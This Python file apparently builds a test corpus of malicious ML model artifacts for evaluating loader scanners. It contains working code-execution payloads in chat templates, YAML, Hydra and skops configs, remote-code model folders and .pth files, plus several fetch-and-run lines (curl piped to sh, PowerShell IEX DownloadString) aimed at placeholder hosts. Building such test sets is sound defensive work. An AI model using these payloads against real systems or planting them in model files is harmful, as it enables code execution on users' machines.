"""Configurations, templates, code and folders that a loader acts on."""

from __future__ import annotations

import io
import json
import zipfile
from typing import TYPE_CHECKING

from bench.corpus.gadgets import INNER
from bench.corpus.loaded import npy, tarred, zipped
from bench.corpus.sample import CODE, MARKER, SHELL, Sample, single

if TYPE_CHECKING:
    from collections.abc import Iterator

_OPEN = f"open('{MARKER}','w').close()"
_GLOBALS = "cycler.__init__.__globals__"
_RUN = f".os.system('touch {MARKER}')"
TEMPLATES = {
    "cycler": "{{ cycler.__init__.__globals__" + _RUN + " }}",
    "joiner": "{{ joiner.__init__.__globals__" + _RUN + " }}",
    "namespace": "{{ namespace.__init__.__globals__" + _RUN + " }}",
    "lipsum": "{{ lipsum.__globals__" + _RUN + " }}",
    "lipsum by subscript": "{{ lipsum['__globals__']['os']['system']('touch marker') }}",
    "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch marker') }}",
    "attr filter": "{{ cycler|attr('__init__')|attr('__globals__')|attr('get')('os')|attr('system')('touch marker') }}",
    "split name": "{{ cycler['__in' ~ 'it__']['__glo' ~ 'bals__'].os.system('touch marker') }}",
    "hex escapes": "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.system('touch marker') }}",
    "joined list": "{{ cycler|attr(['__in','it__']|join)|attr(['__glo','bals__']|join)|attr('get')('os')|attr('system')('touch marker') }}",
    "in set": "{% set g = cycler.__init__.__globals__ %}{% set o = g.os %}{{ o.system('touch marker') }}",
    "in a macro": "{% macro f(x) %}{{ x.__init__.__globals__.os.system('touch marker') }}{% endmacro %}{{ f(cycler) }}",
    "in a loop": "{% for m in messages %}{{ m }}{% if loop.last %}{{ cycler.__init__.__globals__.os.popen('touch marker').read() }}{% endif %}{% endfor %}",
    "behind a condition": "{% if messages|length == 1 %}{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os.system('touch marker') }}{% endif %}",
    "subclasses": "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['open']('marker','w') }}{% endif %}{% endfor %}",
    "format": "{{ '%s' % cycler.__init__.__globals__.os.system('touch marker') }}",
    "reversed name": "{{ cycler[('__tini__')|reverse][('__slabolg__')|reverse].os.system('touch marker') }}",
    "map attribute": "{{ [cycler]|map(attribute='__init__.__globals__.os')|map('attr','system')|list|first }}{{ ([cycler]|map(attribute='__init__.__globals__.os')|first).system('touch marker') }}",
    "do": "{% do cycler.__init__.__globals__.os.system('touch marker') %}",
    "call block": "{% macro f() %}{{ caller() }}{% endmacro %}{% call f() %}{{ lipsum.__globals__.os.system('touch marker') }}{% endcall %}",
    "dict method": "{{ messages.__class__.__init__.__objclass__ }}{{ lipsum.__globals__.get('os').system('touch marker') }}",
    "raise_exception": "{{ raise_exception.__self__.open('marker','w') if false else lipsum.__globals__['__builtins__']['open']('marker','w') }}",
    "generator frame": "{{ ((messages|map('string')).gi_frame.f_builtins['open']('marker','w')) }}",
}  # fmt: skip
GOOD = "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}"


def _slug(name: str) -> str:
    return name.replace(" ", "-").replace("'", "")


def _templates() -> Iterator[Sample]:
    for name, template in TEMPLATES.items():
        yield single("template", f"{_slug(name)}.jinja", template.encode(), "jinja")
    attack = TEMPLATES["lipsum"]
    yield Sample(
        "template",
        "tokenizer-config",
        {"tokenizer_config.json": json.dumps({"chat_template": attack}).encode()},
        "jinja",
    )
    yield Sample(
        "template",
        "tokenizer-config-list",
        {
            "tokenizer_config.json": json.dumps(
                {"chat_template": [{"name": "default", "template": GOOD}, {"name": "tool_use", "template": attack}]}
            ).encode()
        },
        "jinja",
    )
    escaped = '{"chat_template": "' + "".join(f"\\u{ord(c):04x}" for c in attack) + '"}'
    yield Sample("template", "tokenizer-config-escaped", {"tokenizer_config.json": escaped.encode()}, "jinja")
    yield Sample(
        "template",
        "chat-template-json",
        {"chat_template.json": json.dumps({"chat_template": attack}).encode()},
        "jinja",
    )
    yield Sample(
        "template",
        "chat-template-jinja",
        {"chat_template.jinja": attack.encode(), "tokenizer_config.json": b"{}"},
        "jinja",
    )
    yield Sample(
        "template",
        "processor-config",
        {"processor_config.json": json.dumps({"processor_class": "X", "chat_template": attack}).encode()},
        "jinja",
    )
    yield Sample(
        "template",
        "additional-templates",
        {"additional_chat_templates/rag.jinja": attack.encode(), "config.json": b"{}"},
        "jinja",
    )


EVIL_PY = (
    CODE
    + "\nfrom transformers import PretrainedConfig, PreTrainedModel\nclass C(PretrainedConfig):\n    model_type = 'evil'\nclass M(PreTrainedModel):\n    config_class = C\n"
)


def _transformers() -> Iterator[Sample]:
    config = {
        "model_type": "evil",
        "auto_map": {"AutoConfig": "evil.C", "AutoModel": "evil.M"},
        "architectures": ["M"],
    }
    evil = EVIL_PY.encode()
    yield Sample(
        "remote-code", "auto-map", {"config.json": json.dumps(config).encode(), "evil.py": evil}, "transformers"
    )
    yield Sample(
        "remote-code", "auto-map-config", {"config.json": json.dumps(config).encode(), "evil.py": evil}, "config"
    )
    yield single(
        "remote-code", "config.json", json.dumps(config).encode(), "", "the code lies in the hub's repository"
    )
    elsewhere = {**config, "auto_map": {"AutoModel": "someone/else--evil.M"}}
    yield Sample("remote-code", "auto-map-elsewhere", {"config.json": json.dumps(elsewhere).encode()}, "")
    tokenizer = {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["evil.T", None]}}
    code = (
        CODE + "\nfrom transformers import PreTrainedTokenizer\nclass T(PreTrainedTokenizer):\n    pass\n"
    ).encode()
    yield Sample(
        "remote-code",
        "tokenizer",
        {
            "tokenizer_config.json": json.dumps(tokenizer).encode(),
            "evil.py": code,
            "config.json": b'{"model_type": "bert"}',
        },
        "tokenizer",
    )
    pipelines = {"model_type": "bert", "custom_pipelines": {"x": {"impl": "evil.P", "pt": ["AutoModel"]}}}
    yield Sample(
        "remote-code", "custom-pipelines", {"config.json": json.dumps(pipelines).encode(), "evil.py": evil}, ""
    )
    sbert = [{"idx": 0, "name": "0", "path": "", "type": "evil.Loaded"}]
    loaded = (CODE + "\nclass Loaded:\n    load = staticmethod(print)\n").encode()
    yield Sample(
        "remote-code",
        "sentence-transformers",
        {"modules.json": json.dumps(sbert).encode(), "evil.py": loaded},
        "sentence-transformers",
    )
    index = {"_class_name": "evil.Pipeline", "unet": ["evil", "Net"], "_diffusers_version": "0.30"}
    yield Sample(
        "remote-code", "diffusers", {"model_index.json": json.dumps(index).encode(), "pipeline.py": evil}, ""
    )
    yield Sample(
        "remote-code",
        "weights-and-pickle",
        {"config.json": b'{"model_type": "bert"}', "pytorch_model.bin": INNER},
        "",
    )
    shards = {"metadata": {}, "weight_map": {"a": "../../secret.bin"}}
    yield Sample(
        "remote-code", "index-out-of-folder", {"pytorch_model.bin.index.json": json.dumps(shards).encode()}, ""
    )
    adapter = {
        "base_model_name_or_path": "x",
        "auto_mapping": {"base_model_class": "M", "parent_library": "evil"},
        "peft_type": "LORA",
    }
    yield Sample("remote-code", "peft", {"adapter_config.json": json.dumps(adapter).encode(), "evil.py": evil}, "")


YAMLS = {
    "apply": f"!!python/object/apply:os.system ['touch {MARKER}']\n",
    "apply in a value": f"model:\n  name: x\n  init: !!python/object/apply:os.system ['touch {MARKER}']\n",
    "apply with kwds": f"!!python/object/apply:subprocess.call\nargs: [['touch', '{MARKER}']]\n",
    "new": f"!!python/object/new:subprocess.Popen [['touch', '{MARKER}']]\n",
    "exec": f'!!python/object/apply:builtins.exec ["{_OPEN}"]\n',
    "escaped tag": f"!!python/object/%61pply:os.system ['touch {MARKER}']\n",
    "verbatim tag": f"!<tag:yaml.org,2002:python/object/apply:os.system> ['touch {MARKER}']\n",
    "tag directive": f"%TAG !x! tag:yaml.org,2002:python/object/\n---\n!x!apply:os.system ['touch {MARKER}']\n",
    "anchor": f"a: &a !!python/object/apply:os.system ['touch {MARKER}']\nb: *a\n",
    "in a key": f"? !!python/object/apply:os.system ['touch {MARKER}']\n: x\n",
    "module": f'!!python/object/apply:eval ["{_OPEN}"]\n',
    "flow": f"{{a: [1, !!python/object/apply:os.system ['touch {MARKER}']]}}\n",
    "listitems": '!!python/object/new:str\nargs: []\nstate: !!python/tuple\n- "' + _OPEN + '"\n- !!python/object/new:staticmethod\n  args: [0]\n  state:\n    update: !!python/name:exec\n',
}  # fmt: skip


def _configs() -> Iterator[Sample]:
    for name, text in YAMLS.items():
        yield single("yaml", f"{_slug(name)}.yaml", text.encode(), "yaml")
    yield single("yaml", "second-document.yml", ("a: 1\n---\n" + YAMLS["apply"]).encode(), "")
    command = f"touch {MARKER}"
    for name, text in {
        "hydra.yaml": f"_target_: os.system\n_args_: ['{command}']\n",
        "nested.yaml": f"model:\n  encoder:\n    - _target_: subprocess.getoutput\n      cmd: '{command}'\n",
        "quoted.yaml": f"\"_target_\": 'os.popen'\ncmd: '{command}'\n",
        "exec.yaml": f'_target_: builtins.exec\n_args_: ["{_OPEN}"]\n',
        "torch-load.yaml": "_target_: shutil.copyfile\nsrc: secret.txt\ndst: marker\n",
        "anchors.yaml": f"x: &x {{_target_: os.system, _args_: ['{command}']}}\ny: *x\n",
        "escaped.yaml": f"\"_tar\\x67et_\": os.system\n_args_: ['{command}']\n",
        "hydra.json": json.dumps({"_target_": "os.system", "_args_": [command]}),
        "nested.json": json.dumps({"a": [{"b": {"_target_": "timeit.timeit", "stmt": _OPEN, "number": 1}}]}),
    }.items():  # fmt: skip
        yield single("config-target", name, text.encode(), "instantiate")
    yield single(
        "config-target",
        "class-path.yaml",
        f"trainer:\n  class_path: subprocess.Popen\n  init_args:\n    args: ['touch', '{MARKER}']\n".encode(),
        "",
        "jsonargparse, Lightning",
    )
    yield single(
        "config-target",
        "hyperpyyaml.yaml",
        f"x: !apply:os.system ['{command}']\n".encode(),
        "",
        "SpeechBrain's HyperPyYAML",
    )
    nemo = tarred(
        {"model_config.yaml": f"_target_: os.system\n_args_: ['{command}']\n".encode(), "model_weights.ckpt": b""}
    )
    yield single("config-target", "model.nemo", nemo, "")
    logs = {"version": 1, "formatters": {"f": {"()": "os.system", "command": command}}}
    yield single("config-target", "logging.json", json.dumps(logs).encode(), "logging")
    model = "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    python_version: 3.11.2\nmodel_uuid: 0\n"
    yield Sample(
        "mlflow",
        "loader-module",
        {
            "MLmodel": model.encode(),
            "code/evil.py": (CODE + "\ndef _load_pyfunc(path):\n    return print\n").encode(),
        },
        "mlflow",
    )
    pyfunc = "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    python_version: 3.11.2\n    cloudpickle_version: 3.1.2\n"
    yield Sample("mlflow", "python-model", {"MLmodel": pyfunc.encode(), "python_model.pkl": INNER}, "mlflow")


def _code() -> Iterator[Sample]:
    for name, source in {
        "at-import.py": "import os\nos.system('touch marker')\n",
        "exec.py": f"exec({_OPEN!r})\n",
        "encoded.py": "import base64\nexec(base64.b64decode(%r))\n" % __import__("base64").b64encode(_OPEN.encode()).decode(),
        "getattr.py": "getattr(__import__('o'+'s'), 'sys'+'tem')('touch marker')\n",
        "unpickles.py": "import pickle\npickle.loads(%r)\n" % INNER,
        "writes.py": f"from pathlib import Path\nPath('{MARKER}').touch()\n",
        "decorator.py": "import os\n@lambda f: os.system('touch marker')\ndef f(): pass\n",
        "class-body.py": "class Net:\n    import subprocess\n    subprocess.run(['touch', 'marker'])\n",
        "default-argument.py": "def f(x=__import__('os').system('touch marker')): pass\n",
        "metaclass.py": "import os\nclass M(type):\n    def __init__(c, *a): os.system('touch marker')\nclass C(metaclass=M): pass\n",
        "star-import.py": "from os import *\nsystem('touch marker')\n",
        "importlib.py": "import importlib\nimportlib.import_module('os').system('touch marker')\n",
        "ctypes.py": "import ctypes as c\nc.CDLL(None).system(b'touch marker')\n",
        "sitecustomize.py": "open('marker','w').close()\n",
        "setup.py": "import os\nos.system('touch marker')\n",
        "conftest.py": "import subprocess\nsubprocess.Popen(['touch','marker']).wait()\n",
        "__init__.py": "import builtins\nbuiltins.eval(\"open('marker','w')\")\n",
        "modeling_evil.py": "import os as safe\nrun = safe.system\nrun('touch marker')\n",
    }.items():  # fmt: skip
        yield single("python-code", name, source.encode(), "python")
    cells = [
        {
            "cell_type": "code",
            "source": ["import os\n", "os.system('touch marker')\n"],
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
    ]
    yield single(
        "python-code",
        "train.ipynb",
        json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
        "notebook",
    )
    yield single(
        "python-code",
        "magic.ipynb",
        json.dumps(
            {
                "cells": [{**cells[0], "source": "!curl -s http://example.invalid/x | sh\n"}],
                "metadata": {},
                "nbformat": 4,
                "nbformat_minor": 5,
            }
        ).encode(),
        "",
    )
    yield single("path-file", "evil.pth", f"import os; os.system('touch {MARKER}')\n".encode(), "path-file")
    yield single("path-file", "evil-tab.pth", f"import\tos; os.system('touch {MARKER}')\n".encode(), "path-file")
    yield single(
        "path-file", "evil-exec.pth", f'# comment\nimport builtins; builtins.exec("{_OPEN}")\n'.encode(), "path-file"
    )
    yield single("script", "install.sh", b"#!/bin/sh\ntouch marker\ncurl -s http://example.invalid/x | sh\n", "shell")
    yield single("script", "run-encoded", b"#!/bin/sh\necho dG91Y2ggbWFya2Vy | base64 -d | sh\n", "shell")
    yield single(
        "script", "setup.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x')\n", ""
    )
    compiled = io.BytesIO()
    compiled.write(
        __import__("importlib.util").util.MAGIC_NUMBER
        + b"\0" * 12
        + __import__("marshal").dumps(compile(CODE, "x", "exec"))
    )
    yield single("python-code", "module.pyc", compiled.getvalue(), "python")
    yield single(
        "python-code",
        "__main__.zip",
        zipped({"__main__.py": CODE.encode()}),
        "python",
        "python runs a zip archive with __main__.py",
    )


def _skops() -> Iterator[Sample]:
    def schema(node: dict[str, object]) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("schema.json", json.dumps({**node, "protocol": 0, "_skops_version": "0.9.0"}))
        return buffer.getvalue()

    def text(value: str) -> dict[str, object]:
        return {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(value),
            "is_json": True,
        }

    def many(*values: object, kind: str = "tuple") -> dict[str, object]:
        return {
            "__class__": kind,
            "__module__": "builtins",
            "__loader__": kind.capitalize() + "Node",
            "content": list(values),
        }

    reduce = {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode", "content": None}
    operator = {
        "__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
        "attrs": many(text("system"), text(f"touch {MARKER}")),
    }  # fmt: skip
    function = {
        "__class__": "function",
        "__module__": "builtins",
        "__loader__": "FunctionNode",
        "content": {"module_path": "os", "function": "system"},
    }
    method = {
        "__class__": "method", "__module__": "builtins", "__loader__": "MethodNode",
        "content": {"func": "system", "obj": {"__class__": "module", "__module__": "os", "__loader__": "TypeNode", "content": {"__module__": "os", "__class__": "path"}}},
    }  # fmt: skip
    partial = {
        "__class__": "partial", "__module__": "functools", "__loader__": "PartialNode",
        "content": {"func": function, "args": many(text("id")), "kwds": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "key_types": many(kind="list")}, "namespace": None},
    }  # fmt: skip
    type_node = {
        "__class__": "Popen",
        "__module__": "subprocess",
        "__loader__": "TypeNode",
        "content": {"__class__": "Popen", "__module__": "subprocess"},
    }
    array = {
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "type": "numpy",
        "file": "a.npy",
    }
    for name, node in {
        "object": reduce,
        "operator": operator,
        "function": function,
        "method": method,
        "partial": partial,
        "type": type_node,
    }.items():
        yield single("skops", f"{name}.skops", schema(node), "skops", "names a function that is called on use")
    yield single(
        "skops",
        "array-of-objects.skops",
        zipped(
            {
                "schema.json": json.dumps({**array, "protocol": 0, "_skops_version": "0.9.0"}).encode(),
                "a.npy": npy(INNER),
            }
        ),
        "",
    )
    constructed = {
        "__class__": "Popen", "__module__": "subprocess", "__loader__": "OperatorFuncNode", "attrs": many(many(text("touch"), text(MARKER), kind="list")),
    }  # fmt: skip
    yield single("skops", "operator-popen.skops", schema(constructed), "skops")
    yield single(
        "skops",
        "constructor.skops",
        schema({**constructed, "__class__": "system", "__module__": "os", "attrs": many(text(f"touch {MARKER}"))}),
        "skops",
    )


def _ambiguous() -> Iterator[Sample]:
    yield single(
        "two-readings",
        "duplicate-key.json",
        b'{"model_type": "bert", "auto_map": {"AutoModel": "evil.M"}, "auto_map": {}}',
        "",
        "which of two equal keys counts depends on the reader",
    )
    yield single("two-readings", "config.json", b'{"model_type": "bert", "model_type": "evil"}', "")
    header = (
        b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}'
    )
    for name, head, data in (
        ("duplicate-key.safetensors", header, bytes(8)),
        (
            "overlap.safetensors",
            b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}',
            bytes(12),
        ),
        (
            "hole.safetensors",
            b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[8,12]}}',
            bytes(12),
        ),
        (
            "trailing.safetensors",
            b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
            bytes(4) + zipped({"model.pkl": INNER}),
        ),
        ("trailing-pickle.safetensors", b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', bytes(4) + INNER),
        ("wrong-size.safetensors", b'{"a":{"dtype":"F32","shape":[9],"data_offsets":[0,4]}}', bytes(4)),
    ):
        yield single("two-readings", name, len(head).to_bytes(8, "little") + head + data, "")
    yield single("two-readings", "picture-and-pickle.gif", b"GIF89a" + zipped({"model.pkl": INNER}), "unpack")
    yield single("two-readings", "text-and-zip.txt", b"Hello.\n" * 9 + zipped({"data.pkl": INNER}), "unpack")
    yield single("two-readings", "pickle-and-zip.pkl", INNER + zipped({"harmless.txt": b"x"}), "pickle")
    yield single("two-readings", "pickle-and-tar.pt", INNER.ljust(512, b"\0") + tarred({"x": b"y"}), "pickle")


def samples() -> list[Sample]:
    """All of them."""
    return [
        *_templates(),
        *_transformers(),
        *_configs(),
        *_code(),
        *_skops(),
        *_ambiguous(),
        Sample(
            "remote-code",
            "shell-in-folder",
            {"config.json": b"{}", "install.sh": ("#!/bin/sh\ncurl x.invalid | sh\n" + SHELL).encode()},
        ),
    ]
